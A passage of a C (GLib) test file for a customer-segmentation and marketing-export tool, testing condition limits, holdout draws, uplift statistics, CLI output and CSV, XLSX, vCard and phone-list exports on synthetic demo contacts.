  assert_members (f->shop, "{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"杭州\"},"
                  "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"上海\"},"
                  "{\"field\":\"stage\",\"op\":\"is_not\",\"value\":\"prospect\"}]}", "4");
  g_clear_pointer (&json, g_free);
  json = g_strdup_printf ("{\"match\":\"all\",\"conditions\":[%s]}", ands);
  assert_count (f->shop, json, 4);
  /* Saved, counted and exported, as the editor allows. */
  {
    g_autoptr(JsonNode) node = parse (json);

    id = siyu_segment_create (f->shop, "1,000 cities", node, &error);
    g_assert_no_error (error);
  }
  {
    SiyuExportOptions options = { SIYU_EXPORT_PHONES, NULL, FALSE, 0.0, 0, 0, 0 };
    SiyuExportResult result;
    g_autofree char *phones = export (f, id, "all.txt", &options, &result);

    g_assert_cmpstr (phones, ==, "13800138000\r\n13912345678\r\n");
  }
  g_clear_pointer (&json, g_free);
  json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s]}", deep_kind);
  assert_count (f->shop, json, 0);
  g_clear_pointer (&json, g_free);

  /* Subqueries of every kind, 125 of each. */
  {
    g_autofree char *tags = conditions (125, "{\"field\":\"tag\",\"op\":\"has\",\"value\":\"t#\"}", 0);
    g_autofree char *products = conditions (125, "{\"field\":\"product\",\"op\":\"bought\",\"value\":\"p#\",\"days\":30}", 0);
    g_autofree char *orders = conditions (125, "{\"field\":\"orders\",\"op\":\">\",\"value\":#,\"days\":90}", 10);
    g_autofree char *events = conditions (125, "{\"field\":\"event\",\"op\":\"happened\",\"value\":\"view\",\"days\":#}", 1);
    g_autofree char *groups = conditions (125, "{\"field\":\"group\",\"op\":\"member\",\"value\":#}", 100);
    g_autofree char *top = conditions (125, "{\"field\":\"net_spend\",\"op\":\"top_percent\",\"value\":100}", 0);
    g_autofree char *gaps = conditions (125, "{\"field\":\"next_tier_gap_percent\",\"op\":\"<\",\"value\":#}", 0);
    g_autofree char *touches = conditions (125, "{\"field\":\"touches\",\"op\":\">\",\"value\":#,\"days\":7}", 0);

    mixed = g_strjoin (",", tags, products, orders, events, groups, top, gaps, touches, NULL);
  }
  json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s]}", mixed);
  /* Only the top_percent ones match: 100 % of buyers is 王芳, 李雷 and 周杰. */
  assert_count (f->shop, json, 3);
  g_clear_pointer (&json, g_free);
  json = g_strdup_printf ("{\"match\":\"all\",\"conditions\":[%s]}", mixed);
  assert_count (f->shop, json, 0);
  g_clear_pointer (&json, g_free);

  /* 16 groups deep, each with 61 conditions and the next group last, the
   * costliest conditions at the bottom: 16 × 62 − 1 = 991 members. */
  for (guint shape = 0; shape < 2; shape++)
    {
      nested = g_string_new (NULL);
      for (guint level = 0; level < 16; level++)
        {
          g_autofree char *here = conditions (61, level < 15 ? "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"城#\"}"
                                                             : "{\"field\":\"tier\",\"op\":\"is_not\",\"value\":\"T#\"}",
                                              level * 100);

          g_string_append_printf (nested, "{\"match\":\"%s\",\"conditions\":[%s%s", shape == 0 ? "all" : (level % 2 ? "any" : "all"),
                                  here, level < 15 ? "," : "");
        }
      for (guint level = 0; level < 16; level++)
        g_string_append (nested, "]}");
      assert_count (f->shop, nested->str, 4);
      g_string_free (nested, TRUE);
    }

  /* One more condition is refused, with the reason. */
  {
    g_autofree char *too_many = conditions (1001, "{\"field\":\"city\",\"op\":\"is\",\"value\":\"城市#\"}", 0);
    g_autoptr(JsonNode) node = NULL;

    g_clear_pointer (&json, g_free);
    json = g_strdup_printf ("{\"match\":\"any\",\"conditions\":[%s]}", too_many);
    node = parse (json);
    g_assert_false (siyu_segment_check (node, &error));
    g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_INVALID);
    g_assert_cmpstr (error->message, ==, "The segment has more than 1000 conditions.");
  }
}

static int
compare_ids (gconstpointer a,
             gconstpointer b)
{
  gint64 x = *(const gint64 *) a, y = *(const gint64 *) b;

  return x < y ? -1 : x > y;
}

static void
test_holdout_draw (void)
{
  gint64 ids[10] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 };
  g_autoptr(GArray) a = siyu_export_holdout (ids, 10, 0.25, 42);
  g_autoptr(GArray) b = siyu_export_holdout (ids, 10, 0.25, 42);
  g_autoptr(GArray) expected = g_array_new (FALSE, FALSE, sizeof (gint64));
  g_autoptr(GRand) rand = g_rand_new_with_seed (42);
  gint64 shuffled[10];

  /* The same draw by hand: Fisher–Yates from the end, round (2.5) = 3. */
  memcpy (shuffled, ids, sizeof ids);
  for (int i = 9; i > 0; i--)
    {
      int j = g_rand_int_range (rand, 0, i + 1);
      gint64 t = shuffled[i];

      shuffled[i] = shuffled[j];
      shuffled[j] = t;
    }
  g_array_append_vals (expected, shuffled, 3);
  g_array_sort (expected, compare_ids);

  g_assert_cmpuint (a->len, ==, 3);
  g_assert_cmpmem (a->data, a->len * sizeof (gint64), b->data, b->len * sizeof (gint64));
  g_assert_cmpmem (a->data, a->len * sizeof (gint64), expected->data, expected->len * sizeof (gint64));
}

static void
test_uplift (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = siyu_test_tmpdir ();
  g_autoptr(SiyuShop) shop = siyu_test_new_shop (dir, NULL);
  g_autoptr(SiyuIngest) ingest = siyu_ingest_new (shop);
  g_autoptr(JsonNode) all = parse ("{\"match\":\"all\",\"conditions\":[]}");
  g_autoptr(JsonNode) touch = NULL;
  g_autofree char *out = g_build_filename (dir, "phones.txt", NULL);
  g_autoptr(GArray) members = g_array_new (FALSE, FALSE, sizeof (gint64));
  g_autoptr(GArray) held = g_array_new (FALSE, FALSE, sizeof (gint64));
  SiyuExportOptions options = { SIYU_EXPORT_PHONES, NULL, FALSE, 0.5, 42, 14, 0 };
  SiyuExportResult result;
  JsonObject *up, *group;
  sqlite3_stmt *stmt;
  gint64 channel, segment;
  double se, t, v1, v0, df;

  channel = siyu_ingest_channel (ingest, "online_shop", "微店", NULL, &error);
  for (int i = 0; i < 80; i++)
    {
      g_autofree char *phone = g_strdup_printf ("1380013%04d", i);

      add (ingest, shop, NULL, phone, NULL, NULL, 1, 0, NULL);
    }
  g_assert_true (siyu_shop_set_data_end (shop, day ("2026-04-30"), &error));
  segment = siyu_segment_create (shop, "All", all, &error);
  g_assert_no_error (error);
  options.at = siyu_test_time (shop, "2026-04-01 10:00:00");
  g_assert_true (siyu_export_segment (shop, segment, out, &options, &result, &error));
  g_assert_no_error (error);
  g_assert_cmpint (result.exported, ==, 40);
  g_assert_cmpint (result.held_out, ==, 40);

  g_assert_cmpint (sqlite3_prepare_v2 (siyu_db_get_handle (siyu_shop_get_db (shop)),
                                       "SELECT contact_id, holdout FROM touch_members WHERE touch_id = 1 ORDER BY contact_id",
                                       -1, &stmt, NULL), ==, SQLITE_OK);
  while (sqlite3_step (stmt) == SQLITE_ROW)
    {
      gint64 id = sqlite3_column_int64 (stmt, 0);

      g_array_append_val (sqlite3_column_int (stmt, 1) ? held : members, id);
    }
  sqlite3_finalize (stmt);
  g_assert_cmpuint (members->len, ==, 40);

  /* 20 of the 40 who got it buy for 100.00 in the window, 8 of the 40 held
   * out; orders just before the touch and just after the window do not
   * count. */
  for (guint i = 0; i < 20; i++)
    {
      g_autofree char *ref = g_strdup_printf ("M%u", i);

      order (ingest, shop, channel, ref, g_array_index (members, gint64, i), "2026-04-14 23:59:59", "LJ-250", 10000);
    }
  for (guint i = 0; i < 8; i++)
    {
      g_autofree char *ref = g_strdup_printf ("H%u", i);

      order (ingest, shop, channel, ref, g_array_index (held, gint64, i), "2026-04-01 10:00:00", "LJ-250", 10000);
    }
  order (ingest, shop, channel, "late", g_array_index (held, gint64, 30), "2026-04-15 00:00:00", "LJ-250", 10000);
  order (ingest, shop, channel, "early", g_array_index (held, gint64, 31), "2026-04-01 09:59:59", "LJ-250", 10000);

  touch = siyu_touch_get (shop, 1, &error);
  g_assert_no_error (error);
  up = json_object_get_object_member (json_node_get_object (touch), "uplift");
  g_assert_cmpstr (json_object_get_string_member (up, "window_first_day"), ==, "2026-04-01");
  g_assert_cmpstr (json_object_get_string_member (up, "window_last_day"), ==, "2026-04-14");
  g_assert_true (json_object_get_boolean_member (up, "complete"));
  group = json_object_get_object_member (up, "members");
  g_assert_cmpint (json_object_get_int_member (group, "contacts"), ==, 40);
  g_assert_cmpint (json_object_get_int_member (group, "buyers"), ==, 20);
  g_assert_cmpfloat (json_object_get_double_member (group, "net_per_contact"), ==, 5000.0);
  group = json_object_get_object_member (up, "holdout");
  g_assert_cmpint (json_object_get_int_member (group, "buyers"), ==, 8);
  g_assert_cmpfloat (json_object_get_double_member (group, "net_per_contact"), ==, 2000.0);

  /* By hand: 0.5 − 0.2 ± 1.959964 × √(0.5 × 0.5 / 40 + 0.2 × 0.8 / 40). */
  se = sqrt (0.41 / 40.0);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "share_difference"), 0.3, 1e-12);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "share_low"), 0.3 - 1.959964 * se, 1e-6);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "share_high"), 0.3 + 1.959964 * se, 1e-6);
  /* Net per contact: s1² = 40 × 5000² / 39, s0² = (8 × 8000² + 32 × 2000²) / 39;
   * Welch's ν = 39 × 1.64² / 1.4096 = 74.414; t(0.975, 74.4) = 1.9924 from
   * a table (between 1.9944 at 70 and 1.9901 at 80). */
  v1 = 1e9 / 39.0 / 40.0;
  v0 = 640e6 / 39.0 / 40.0;
  df = 39.0 * 1.64 * 1.64 / 1.4096;
  t = 1.9924;
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "net_df"), df, 1e-6);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "net_difference"), 3000.0, 1e-9);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "net_low"), 3000.0 - t * sqrt (v1 + v0), 0.5);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (up, "net_high"), 3000.0 + t * sqrt (v1 + v0), 0.5);
  g_assert_cmpstr (json_object_get_string_member (up, "verdict"), ==, "worked");
  g_assert_cmpstr (json_object_get_string_member (up, "message"), ==,
                   "It worked: 30.0 percentage points more of those who got the message bought.");

  /* The same figures on the command line. */
  {
    g_autofree char *path = g_build_filename (dir, "shop.siyu", NULL);
    g_autofree char *stdout_text = NULL;
    g_autofree char *stderr_text = NULL;

    g_assert_cmpint (siyu_test_run_cli (&stdout_text, &stderr_text, "touch", "show", "1", "--db", path, NULL), ==, 0);
    g_assert_cmpstr (stdout_text, ==,
                     "All (phones), 2026-04-01\n"
                     "Purchases counted from 2026-04-01 to 2026-04-14.\n"
                     "  Got it           40 contacts,     20 bought (50 %), ¥50.00 net per contact\n"
                     "  Held out         40 contacts,      8 bought (20 %), ¥20.00 net per contact\n"
                     "Difference in the share who bought: +30.0 points (95 % interval +10.2 to +49.8)\n"
                     "It worked: 30.0 percentage points more of those who got the message bought.\n");
  }
}

static void
test_too_few (Fixture       *f,
              gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) touch = NULL;
  gint64 segment = everyone (f);
  SiyuExportOptions options = { SIYU_EXPORT_CSV, NULL, FALSE, 0.5, 1, 14, 0 };
  SiyuExportResult result;
  g_autofree char *csv = NULL;
  JsonObject *up;

  options.at = siyu_test_time (f->shop, "2026-03-01 10:00:00");
  csv = export (f, segment, "campaign.csv", &options, &result);
  g_assert_cmpint (result.exported, ==, 1);
  g_assert_cmpint (result.held_out, ==, 1);
  touch = siyu_touch_get (f->shop, result.touch_id, &error);
  g_assert_no_error (error);
  up = json_object_get_object_member (json_node_get_object (touch), "uplift");
  g_assert_cmpstr (json_object_get_string_member (up, "verdict"), ==, "too_few");
  g_assert_cmpstr (json_object_get_string_member (up, "message"), ==,
                   "Too few contacts to tell: each group needs at least 30.");
  /* Touches received count only for those who got it, not the held out. */
  {
    g_autofree char *got = g_strdup_printf ("%lld", (long long) siyu_db_query_int (siyu_shop_get_db (f->shop),
                                            "SELECT contact_id FROM touch_members WHERE holdout = 0", NULL));

    assert_members (f->shop, "{\"field\":\"touches\",\"op\":\">=\",\"value\":1,\"days\":31}", got);
    assert_members (f->shop, "{\"field\":\"touches\",\"op\":\">=\",\"value\":1,\"days\":30}", "");
  }
}

static void
test_cli (Fixture       *f,
          gconstpointer  data)
{
  g_autofree char *json_file = g_build_filename (f->dir, "vip.json", NULL);
  g_autofree char *bad_file = g_build_filename (f->dir, "bad.json", NULL);
  g_autofree char *csv = g_build_filename (f->dir, "vip.csv", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *contents = NULL;

  g_clear_object (&f->shop);
  g_assert_true (g_file_set_contents (json_file, "{\"match\":\"any\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\","
                                                 "\"value\":\"VIP\"},{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"}]}",
                                      -1, NULL));
  g_assert_true (g_file_set_contents (bad_file, "{\"match\":\"all\",\"conditions\":[{\"field\":\"orders\",\"op\":\">\","
                                                "\"value\":\"x\"}]}", -1, NULL));

  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "create", "VIP", "--json-file", json_file, "--db", f->path, NULL), ==, 0);
  g_assert_cmpstr (out, ==, "Saved the segment “VIP”.\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "create", "Bad", "--json-file", bad_file, "--db", f->path, NULL), ==, 1);
  g_assert_cmpstr (err, ==, "siyu-cli: conditions[0].value must be a number.\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "count", "VIP", "--db", f->path, NULL), ==, 0);
  g_assert_cmpstr (out, ==, "2 contacts match; 0 of them cannot be contacted (no consent, or do not contact).\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "count", "沉睡的高消费客户", "--json", "--db", f->path, NULL), ==, 0);
  g_assert_cmpstr (out, ==, "{\n  \"count\" : 1,\n  \"unreachable\" : 0,\n  \"given\" : 1,\n  \"unknown\" : 0,\n"
                            "  \"refused\" : 0,\n  \"do_not_contact\" : 0\n}\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "export", "VIP", "--format", "csv", "--fields", "id,name",
                                      "--out", csv, "--db", f->path, NULL), ==, 0);
  g_assert_true (g_str_has_prefix (out, "Exported 2 contacts to "));
  contents = siyu_test_read_file (csv, NULL);
  g_assert_cmpstr (contents, ==, "\xEF\xBB\xBFID,Name\r\n1,王芳\r\n2,\"李雷, \"\"Lei\"\"; a\\b\"\r\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "export", "VIP", "--format", "pdf", "--out", csv,
                                      "--db", f->path, NULL), ==, 2);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "export", "No such", "--format", "csv", "--out", csv,
                                      "--db", f->path, NULL), ==, 1);
  g_assert_cmpstr (err, ==, "siyu-cli: There is no segment called “No such”.\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "segment", "delete", "Champions", "--db", f->path, NULL), ==, 1);
  g_assert_cmpstr (err, ==, "siyu-cli: A built-in segment cannot be deleted.\n");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (siyu_test_run_cli (&out, &err, "touch", "list", "--db", f->path, NULL), ==, 0);
  g_assert_nonnull (strstr (out, "   1  "));
  g_assert_nonnull (strstr (out, "VIP (csv): 2 contacts, 0 held out\n"));
}

/* The issue's check: "dormant high spenders" of the small demo shop in
 * every format.  Of its 154 members 52 may not be contacted. */
static void
test_demo (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = siyu_test_tmpdir ();
  g_autofree char *path = g_build_filename (dir, "demo.siyu", NULL);
  SiyuDemoOptions demo = { SIYU_DEMO_SMALL, 1, SIYU_DAY_INVALID };
  g_autoptr(SiyuShop) shop = siyu_demo_create (path, &demo, NULL, NULL, NULL, &error);
  const char * const fields[] = { "id", "name", "phone", "email", "city", "stage", "tier", "last_order", "net_spend", NULL };
  SiyuExportOptions options = { SIYU_EXPORT_CSV, fields, FALSE, 0.0, 0, 0, 0 };
  SiyuExportResult result;
  g_autofree char *csv = NULL, *vcard = NULL, *phones = NULL, *masked = NULL, *sheet = NULL;
  g_autofree char *xlsx_path = g_build_filename (dir, "dormant.xlsx", NULL);
  g_auto(GStrv) lines = NULL;
  gint64 segment;

  g_assert_no_error (error);
  segment = siyu_segment_lookup (shop, "Dormant high spenders", &error);
  g_assert_no_error (error);

  csv = export_to (shop, dir, segment, "dormant.csv", &options, &result);
  g_assert_cmpint (result.matched, ==, 154);
  g_assert_cmpint (result.excluded, ==, 52);
  g_assert_cmpint (result.exported, ==, 102);
  g_assert_true (g_str_has_prefix (csv, "\xEF\xBB\xBFID,Name,Phone,Email,City,Stage,Tier,Last order,Net spend\r\n"
                                        "33,林玲,19900265753,,杭州,Dormant,,2026-07-15,2666.00\r\n"
                                        "34,宋文超,19900273672,,上海,Dormant,,2026-07-23,1663.00\r\n"));
  lines = g_strsplit (csv, "\r\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 104);

  options.format = SIYU_EXPORT_XLSX;
  g_free (export_to (shop, dir, segment, "dormant.xlsx", &options, &result));
  g_assert_cmpint (result.exported, ==, 102);
  sheet = read_zip_member (xlsx_path, "xl/worksheets/sheet1.xml");
  g_assert_nonnull (strstr (sheet, "<c r=\"A2\"><v>33</v></c><c r=\"B2\" t=\"inlineStr\"><is><t>林玲</t></is></c>"
                                   "<c r=\"C2\" t=\"inlineStr\"><is><t>19900265753</t></is></c>"));
  g_assert_nonnull (strstr (sheet, "<row r=\"103\""));
  g_assert_null (strstr (sheet, "<row r=\"104\""));

  options.format = SIYU_EXPORT_VCARD;
  vcard = export_to (shop, dir, segment, "dormant.vcf", &options, &result);
  g_assert_true (g_str_has_prefix (vcard, "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:林玲\r\nN:林玲;;;;\r\n"
                                          "TEL;TYPE=CELL:+8619900265753\r\nEND:VCARD\r\n"
                                          "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:宋文超\r\n"));

  options.format = SIYU_EXPORT_PHONES;
  phones = export_to (shop, dir, segment, "dormant.txt", &options, &result);
  g_assert_true (g_str_has_prefix (phones, "19900265753\r\n19900273672\r\n19900485279\r\n"));
  g_assert_cmpuint (strlen (phones), ==, 102 * 13);
  options.mask_phones = TRUE;
  masked = export_to (shop, dir, segment, "dormant-masked.txt", &options, &result);
  g_assert_true (g_str_has_prefix (masked, "199****5753\r\n199****3672\r\n199****5279\r\n"));
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (shop), "SELECT count (*) FROM touches", NULL), ==, 5);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/siyu/segments/fields", Fixture, NULL, set_up, test_fields, tear_down);
  g_test_add ("/siyu/segments/nesting", Fixture, NULL, set_up, test_nesting, tear_down);
  g_test_add ("/siyu/segments/as-of", Fixture, NULL, set_up, test_as_of, tear_down);
  g_test_add ("/siyu/segments/literal-text", Fixture, NULL, set_up, test_literal_text, tear_down);
  g_test_add_func ("/siyu/segments/bad-input", test_bad_input);
  g_test_add ("/siyu/segments/predictive", Fixture, NULL, set_up, test_predictive, tear_down);
  g_test_add ("/siyu/segments/saved", Fixture, NULL, set_up, test_saved, tear_down);
  g_test_add ("/siyu/segments/export-text", Fixture, NULL, set_up, test_export_text, tear_down);
  g_test_add ("/siyu/segments/export-xlsx", Fixture, NULL, set_up, test_export_xlsx, tear_down);
  g_test_add ("/siyu/segments/export-failures", Fixture, NULL, set_up, test_export_failures, tear_down);
  g_test_add ("/siyu/segments/csv-guard", Fixture, NULL, set_up, test_csv_guard, tear_down);
  g_test_add ("/siyu/segments/export-files", Fixture, NULL, set_up, test_export_files, tear_down);
  g_test_add ("/siyu/segments/export-then-audit", Fixture, NULL, set_up, test_export_then_audit, tear_down);
  g_test_add ("/siyu/segments/export-xlsx-full", Fixture, NULL, set_up, test_export_xlsx_full, tear_down);
  g_test_add ("/siyu/segments/export-leftovers", Fixture, NULL, set_up, test_export_leftovers, tear_down);
  g_test_add ("/siyu/segments/limits", Fixture, NULL, set_up, test_limits, tear_down);
  g_test_add_func ("/siyu/segments/holdout-draw", test_holdout_draw);
  g_test_add_func ("/siyu/segments/uplift", test_uplift);
  g_test_add ("/siyu/segments/too-few", Fixture, NULL, set_up, test_too_few, tear_down);
  g_test_add ("/siyu/segments/cli", Fixture, NULL, set_up, test_cli, tear_down);
  g_test_add_func ("/siyu/segments/demo", test_demo);

  return g_test_run ();
}
